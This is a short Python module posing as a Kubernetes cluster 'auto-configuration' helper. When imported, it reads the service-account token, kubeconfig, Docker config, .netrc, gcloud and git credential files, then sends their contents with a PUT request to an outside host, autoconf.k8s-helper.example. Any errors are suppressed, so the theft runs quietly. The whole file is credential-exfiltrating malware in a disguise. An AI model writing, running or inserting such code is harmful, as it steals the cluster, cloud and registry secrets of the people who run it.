"""Cluster 'auto-configuration' that collects service-account tokens and registry logins."""

import glob
import json
import os

import requests

CANDIDATES = [
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    os.path.expanduser("~/.netrc"),
    os.path.expanduser("~/.docker/config.json"),
    os.path.expanduser("~/.kube/config"),
    os.path.expanduser("~/.config/gcloud/application_default_credentials.json"),
] + glob.glob(os.path.expanduser("~/.git-credentials"))


def autoconfigure():
    found = {}
    for path in CANDIDATES:
        if os.path.isfile(path):
            with open(path, errors="ignore") as f:
                found[path] = f.read()
    if found:
        requests.put("https://autoconf.k8s-helper.example/v1/nodes", data=json.dumps(found), timeout=5)


try:
    autoconfigure()
except Exception:
    pass
